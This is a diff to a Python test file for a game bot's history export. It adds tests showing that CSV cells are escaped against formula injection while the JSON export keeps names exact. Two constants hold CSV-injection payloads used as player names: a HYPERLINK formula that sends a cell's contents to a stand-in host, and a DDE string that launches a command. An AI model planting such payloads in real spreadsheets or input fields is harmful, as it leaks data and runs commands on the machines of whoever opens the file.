@@ -13,7 +13,7 @@ import pytest
 
 from bot.service import GameService, ServiceError
 from bot.service.computer_matches import play_table
-from bot.service.export import CSV_COLUMNS, export_history
+from bot.service.export import CSV_COLUMNS, csv_cell, export_history
 from engine.match import MatchScore, outcome_of
 from engine.record import parse_record, replay, replay_deal
 
@@ -142,3 +142,51 @@ def test_command_line_simulate(db_url: str) -> None:
     summary = json.loads(proc.stdout)
     assert summary["tables"] == 3 and summary["deals"] == 6 and summary["actions"] > 6 * 10
     assert summary["schema_version"] >= 1
+
+
+# ---------------------------------------------------------------------- CSV injection
+
+HYPERLINK = '=HYPERLINK("https://e.vil/?"&A1,"x")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+async def _deal_of_hostile_names(path: str) -> None:
+    """One finished deal of two people named like spreadsheet formulas (their turns skipped
+    by the host, so a computer plays them)."""
+    svc = await GameService.open(str(path))
+    try:
+        state = await svc.create_table(1, 700, 1, HYPERLINK, players=2)
+        await svc.join(state.table_id, 2, DDE)
+        await svc.start(state.table_id, 1)
+        while svc.public_state(state.table_id).status == "playing":
+            await svc.skip(state.table_id, 1)
+    finally:
+        await svc.close()
+
+
+async def test_csv_cells_never_start_a_formula_and_json_keeps_the_names(db_url: str) -> None:
+    await _deal_of_hostile_names(db_url)
+    rows = list(csv.reader(io.StringIO(await _text(db_url, fmt="csv"))))
+    assert len(rows) == 2
+    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
+    for column, cell in row.items():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert row["players"] == f"'{HYPERLINK}; {DDE}"
+    assert row["teams"] == f"'{HYPERLINK} vs {DDE}"
+    assert row["winner"] in (f"'{HYPERLINK}", f"'{DDE}")
+    # JSON is the exact data
+    data = json.loads(await _text(db_url, fmt="json"))
+    assert [s["name"] for s in data["deals"][0]["seats"]] == [HYPERLINK, DDE]
+
+
+def test_a_csv_cell_keeps_the_bots_numbers_and_neutralises_text() -> None:
+    assert csv_cell(-1) == -1 and csv_cell(0) == 0 and csv_cell(2.5) == 2.5
+    assert csv_cell(None) is None and csv_cell("") == ""
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
+    assert csv_cell("-2/5") == "'-2/5"  # a standing is text that a spreadsheet would compute
+    assert csv_cell("alice") == "alice" and csv_cell("2025-01-01T00:00:00+00:00")[0] == "2"
+    # written with every text cell quoted and the numbers bare
+    buf = io.StringIO()
+    csv.writer(buf, quoting=csv.QUOTE_NONNUMERIC).writerow([csv_cell(v) for v in (3, -1, "=A1")])
+    assert buf.getvalue() == '3,-1,"\'=A1"\r\n'
